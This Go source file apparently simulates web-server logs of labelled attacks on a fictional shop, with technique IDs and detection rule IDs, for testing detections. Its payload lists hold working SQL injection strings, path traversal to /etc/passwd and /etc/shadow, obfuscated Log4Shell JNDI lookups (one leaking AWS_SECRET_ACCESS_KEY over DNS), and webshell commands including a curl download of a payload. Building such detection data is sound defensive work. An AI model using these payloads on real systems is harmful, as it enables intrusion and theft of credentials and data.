package simulate

import (
	"strconv"
	"time"
)

// series are texts that end in the numbers from low up to, but not with, high.
func series(prefix string, low, high int) []string {
	var out []string
	for n := low; n < high; n++ {
		out = append(out, prefix+strconv.Itoa(n))
	}
	return out
}

// webAttacks are on the shop.
func webAttacks(v *vocabulary) []*attack {
	w := site{v: v}
	payloads(v)
	who := func(ip, agent string) map[slot]template { return binds(v, "ip", ip, "agent", agent, "version", "1.1") }
	do := func(bind map[slot]template, l *line, times int, gap time.Duration) step {
		return step{bind: bind, text: l.good, times: times, gap: gap}
	}
	shell := who("203.0.113.94", firefox)
	return []*attack{{
		start: 5 * time.Hour,
		label: Label{
			Name: "Web scanner", Techniques: []string{"T1595.003", "T1595.002"}, Entities: []Entity{from("203.0.113.88")},
			Rules: []string{
				"6b0fe636-8102-4657-8188-86d3cf5e0b6c", // pages that are not there
				"74d615e9-f877-494f-8238-01834f7274a1", // by its user agent
			},
		},
		steps: []step{do(who("203.0.113.88", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00<thousands>)"), w.hit("GET <scanned>", "404", "-"), 420, 350*time.Millisecond)},
	}, {
		start: 11*time.Hour + 20*time.Minute,
		label: Label{
			Name: "SQL injection", Techniques: []string{"T1190"}, Entities: []Entity{from("203.0.113.91")},
			Rules: []string{"57cd3a44-94b4-42cb-829e-34703d8b7e0c"},
		},
		steps: []step{do(who("203.0.113.91", chrome), w.hit("GET <injected>", "200", "https://shop.kestrel.example/"), 36, 4*time.Second)},
	}, {
		start: 13*time.Hour + 45*time.Minute,
		label: Label{
			Name: "Path traversal", Techniques: []string{"T1190", "T1083"}, Entities: []Entity{from("203.0.113.92")},
			Rules: []string{"7ec5eedf-da21-4ca9-a2c8-ec9f99b12c3a"},
		},
		steps: []step{do(who("203.0.113.92", "python-requests/2.32.3"), w.hit("GET <traversed>", "400", "-"), 18, 2*time.Second)},
	}, {
		start: 17 * time.Hour,
		label: Label{
			Name: "Log4Shell lookups", Techniques: []string{"T1190"}, Entities: []Entity{from("203.0.113.93")},
			Rules: []string{"f77877e5-e6ed-40c7-aef5-cad14e637408"},
		},
		steps: []step{
			do(who("203.0.113.93", "<lookup>"), w.hit("GET /", "200", "<lookup>"), 8, 3*time.Second),
			do(who("203.0.113.93", "<lookup>"), w.hit("GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.93%3A1389%2Fc%7D", "200", "-"), 1, 0),
		},
	}, {
		start: 18*time.Hour + 30*time.Minute,
		label: Label{
			Name: "Webshell", Techniques: []string{"T1505.003"}, Entities: []Entity{from("203.0.113.94")},
			Rules: []string{"faf78556-25ea-4a80-9641-26895bb4aa72"},
		},
		steps: []step{
			do(shell, w.hit("POST /api/v1/reviews/photo", "201", "https://shop.kestrel.example/p/1042"), 1, 20*time.Second),
			do(shell, w.hit("GET /uploads/2026/03/shell.php", "200", "-"), 1, 10*time.Second),
			do(shell, w.hit("GET /uploads/2026/03/shell.php?cmd=<ordered>", "200", "-"), 6, 15*time.Second),
		},
	}}
}

// scanned are the pages that a web scanner asks for.
func scanned() []string {
	var out []string
	for _, folder := range words(`/ /admin/ /backup/ /cgi-bin/ /old/ /test/ /wp-admin/ /phpmyadmin/ /manager/ /api/ /dev/ /include/ /scripts/ /temp/`) {
		for _, page := range words(`index.php.bak login.asp setup.php config.inc test.cgi admin.php .git/config .env backup.zip db.sql info.php status
			console/ shell.jsp users.txt web.config .htpasswd dump.tar.gz readme.html changelog.txt install.php server-status xmlrpc.php
			elmah.axd trace.axd debug.log error_log phpinfo.php upload.php guestbook.cgi`) {
			out = append(out, folder+page)
		}
	}
	return out
}

// payloads defines what the attackers of the shop send, one after the other.
func payloads(v *vocabulary) {
	v.define("scanned", inTurn(v, scanned()...))
	v.define("injected", inTurn(v, words(`
		/search?q=tent%27%20AND%201=1--%20-
		/search?q=tent%27%20UNION%20SELECT%20NULL,NULL--%20-
		/search?q=tent%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-
		/search?q=tent%27%20UNION%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--%20-
		/search?q=tent%27%20UNION%20SELECT%20email,password_hash,NULL%20FROM%20customers--%20-
		/search?q=tent%27%20AND%20(SELECT%208172%20FROM(SELECT%20COUNT(*),CONCAT(0x71,(SELECT%20version()),0x71,FLOOR(RAND(0)*2))x%20FROM%20information_schema.plugins%20GROUP%20BY%20x)a)--%20-
		/search?q=tent%27;SELECT%20PG_SLEEP(5)--
		/c/tents?page=1&sort=price%20AND%20SLEEP(5)
		/p/1042%27%20OR%20%271%27=%271`)...))
	v.define("traversed", inTurn(v, words(`
		/download?file=../../../../etc/passwd
		/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd
		/download?file=....//....//....//etc/passwd
		/download?file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ
		/download?file=..%252f..%252f..%252fetc%252fshadow
		/assets/..%2f..%2f..%2f..%2fetc/hosts`)...))
	v.define("lookup", inTurn(v, rows(`
		${jndi:ldap://203.0.113.93:1389/Exploit}
		${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.93:1389/a}
		${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.93:1099/b}
		${jndi:dns://203.0.113.93/${env:AWS_SECRET_ACCESS_KEY}}`)...))
	v.define("ordered", inTurn(v, words(`id uname+-a cat+/etc/passwd ls+-la+/var/www env curl+-s+http://203.0.113.94/x+-o+/tmp/.x`)...))
}
